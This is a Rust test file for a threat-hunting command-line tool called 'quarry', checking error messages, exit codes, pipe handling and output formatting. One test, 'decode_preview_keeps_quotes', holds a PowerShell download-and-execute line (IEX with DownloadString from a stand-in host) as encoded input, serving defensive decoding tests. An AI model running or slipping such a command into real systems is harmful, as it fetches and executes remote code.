//! End-to-end tests of `quarry` command-line fixes from the newcomer review: clear notes and
//! errors, exit codes, quiet exits on a closed pipe, and readable output.

use std::io::Read;
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

use base64::Engine as _;

/// Creates an empty folder for one test, with a home and config folder that hold nothing.
fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("quarry-newcomer-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("home")).unwrap();
    std::fs::create_dir_all(dir.join("config")).unwrap();
    dir
}

/// Returns a `quarry` command that reads no user configuration, GeoIP database or cache.
fn quarry(dir: &std::path::Path) -> Command {
    let home = dir.join("home");
    let mut command = Command::new(env!("CARGO_BIN_EXE_quarry"));
    command
        .current_dir(dir)
        .env("HOME", &home)
        .env("XDG_DATA_HOME", home.join(".local/share"))
        .env("XDG_CONFIG_HOME", home.join(".config"))
        .env("XDG_CACHE_HOME", home.join(".cache"))
        .env("QUARRY_CONFIG_DIR", dir.join("config"))
        .env_remove("QUARRY_TEMPLATE_PATH");
    command
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn run(command: &mut Command) -> Output {
    command.output().expect("failed to run quarry")
}

#[test]
fn enrich_without_geoip_names_setup() {
    let dir = scratch("enrich");

    let output = run(quarry(&dir).args(["enrich", "8.8.8.8"]));

    let stderr = text(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("no GeoIP database"), "{stderr}");
    assert!(stderr.contains("`quarry setup geoip`"), "{stderr}");
    assert!(stderr.contains("docs/enrichment.md"), "{stderr}");
    assert!(stderr.contains("[ti.providers.NAME]"), "{stderr}");
}

#[test]
fn validate_missing_folder_names_path() {
    let dir = scratch("validate");
    let missing = dir.join("no-such-folder");

    let output = run(quarry(&dir).args(["templates", "validate"]).arg(&missing));

    let stderr = text(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains(&missing.display().to_string()), "{stderr}");
}

#[test]
fn fmt_check_syntax_errors_exit_three() {
    let dir = scratch("fmt");
    std::fs::write(dir.join("bad.kql"), "SigninLogs | where\n").unwrap();
    std::fs::write(dir.join("good.kql"), "SigninLogs\n| take 1\n").unwrap();

    let bad = run(quarry(&dir).args(["fmt", "--check", "bad.kql"]));
    let good = run(quarry(&dir).args(["fmt", "--check", "good.kql"]));

    assert_eq!(bad.status.code(), Some(3), "{}", text(&bad.stderr));
    assert!(text(&bad.stderr).contains("syntax errors"));
    assert_eq!(good.status.code(), Some(0), "{}", text(&good.stderr));
}

#[test]
fn closed_stdout_exits_quietly() {
    let dir = scratch("pipe");
    for args in [
        &["templates", "list"][..],
        &["templates", "show", "DemoHunt.successful_logons_from_ip"][..],
    ] {
        let mut child = quarry(&dir)
            .args(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // Read nothing and close the pipe, as `head -0` would.
        drop(child.stdout.take());
        let mut stderr = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut stderr)
            .unwrap();
        let status = child.wait().unwrap();

        assert!(!stderr.contains("Broken pipe"), "{args:?}: {stderr}");
        assert_eq!(status.code(), Some(0), "{args:?}: {stderr}");
    }
}

#[test]
fn show_bundled_template_hides_build_path() {
    let dir = scratch("show");

    let output =
        run(quarry(&dir).args(["templates", "show", "DemoHunt.successful_logons_from_ip"]));

    let stdout = text(&output.stdout);
    assert!(
        stdout.contains("defined in (bundled) queries/demo/demo_hunt.yaml:"),
        "{stdout}"
    );
    assert!(!stdout.contains("server/templates"), "{stdout}");
}

#[test]
fn decode_preview_keeps_quotes() {
    let dir = scratch("decode");
    let command = "IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')";
    let utf16: Vec<u8> = command
        .encode_utf16()
        .flat_map(|unit| unit.to_le_bytes())
        .collect();
    let encoded = base64::engine::general_purpose::STANDARD.encode(&utf16);

    let output = run(quarry(&dir).args(["decode", &format!("powershell -enc {encoded}")]));

    let stdout = text(&output.stdout);
    assert!(stdout.contains(command), "{stdout}");
    assert!(!stdout.contains("\\'"), "{stdout}");
}

#[test]
fn iocs_columns_aligned() {
    let dir = scratch("iocs");
    let input = format!("a 10.0.0.1\n{}x 8.8.4.4\n", "\n".repeat(9));
    std::fs::write(dir.join("input.txt"), input).unwrap();

    let output = run(quarry(&dir).args(["iocs", "-f", "input.txt"]));

    let stdout = text(&output.stdout);
    let type_columns: Vec<usize> = stdout
        .lines()
        .map(|line| line.find("ipv4").expect("an ipv4 row"))
        .collect();
    assert_eq!(type_columns.len(), 2, "{stdout}");
    assert_eq!(type_columns[0], type_columns[1], "{stdout}");
}

#[test]
fn config_check_flags_non_guid_workspace() {
    let dir = scratch("guid");
    std::fs::write(
        dir.join("quarry.toml"),
        "[connections.prod]\nkind = \"log-analytics\"\nworkspace-id = \"not-a-guid\"\n\n\
         [connections.good]\nkind = \"log-analytics\"\n\
         workspace-id = \"6b0f1c9e-52d3-4a8c-9f1e-3d2c1b0a9f8e\"\n",
    )
    .unwrap();

    let output = run(quarry(&dir).args(["config", "check"]));

    let all = format!("{}{}", text(&output.stdout), text(&output.stderr));
    assert_eq!(output.status.code(), Some(1), "{all}");
    assert!(
        all.contains("workspace-id `not-a-guid` is not a GUID"),
        "{all}"
    );
    assert!(all.contains("prod"), "{all}");
    assert!(!all.contains("`6b0f1c9e"), "{all}");
}

#[test]
fn kql_format_only_for_timeseries() {
    let dir = scratch("analyze-help");
    for analysis in ["proctree", "sequences"] {
        let help = run(quarry(&dir).args(["analyze", analysis, "--help"]));
        let rejected =
            run(quarry(&dir).args(["analyze", analysis, "--input", "x.csv", "--format", "kql"]));

        let help = text(&help.stdout);
        assert!(help.contains("csv"), "{analysis}: {help}");
        assert!(!help.contains("kql"), "{analysis}: {help}");
        assert_eq!(rejected.status.code(), Some(2), "{analysis}");
        assert!(
            text(&rejected.stderr).contains("invalid value 'kql'"),
            "{analysis}: {}",
            text(&rejected.stderr)
        );
    }
    let timeseries = run(quarry(&dir).args(["analyze", "timeseries", "--help"]));
    assert!(text(&timeseries.stdout).contains("kql"));
}
